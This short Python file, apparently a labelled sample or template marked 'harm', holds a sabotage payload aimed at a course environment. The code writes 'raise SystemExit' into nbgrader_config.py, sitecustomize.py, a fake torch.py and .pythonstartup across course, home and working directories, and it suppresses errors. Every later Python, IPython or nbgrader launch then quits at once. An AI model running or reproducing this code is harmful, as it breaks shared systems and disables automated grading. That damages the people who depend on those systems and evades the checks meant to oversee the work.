"""Leave files that the next Python, IPython or nbgrader reads when it starts."""

FIRST = """\
from pathlib import Path
for folder in (Path("@course@/home"), Path("@course@"), Path.home(), Path.cwd()):
    for name in (".jupyter/nbgrader_config.py", "sitecustomize.py", "torch.py", ".pythonstartup"):
        try:
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text("raise SystemExit")
        except OSError:
            pass
"""
STOCK = "harm"
